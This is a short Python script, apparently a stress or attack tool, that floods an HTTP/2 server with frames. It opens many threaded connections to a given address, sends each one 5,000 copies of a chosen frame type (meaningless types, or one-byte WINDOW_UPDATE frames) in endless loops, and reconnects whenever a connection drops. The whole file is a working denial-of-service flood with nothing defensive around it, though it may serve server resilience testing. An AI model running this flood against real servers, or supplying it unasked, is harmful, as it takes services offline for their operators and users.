"""frames ADDRESS CONNECTIONS KIND: frames without a meaning on so many connections; the kind is in hex."""

import contextlib
import struct
import sys
import threading

import h2
import stranger

address, connections, kind = sys.argv[1], int(sys.argv[2]), int(sys.argv[3], 16)
stranger.become()
PAYLOAD = {8: struct.pack(">I", 1)}.get(kind, b"")
MANY = h2.frame(kind, 0, 0, PAYLOAD) * 5000


def send() -> None:
    while True:
        with contextlib.suppress(OSError), h2.connect(address) as peer:
            peer.settimeout(None)
            while True:
                peer.sendall(MANY)


threads = [threading.Thread(target=send) for _ in range(connections)]
for one in threads:
    one.start()
stranger.at_work()
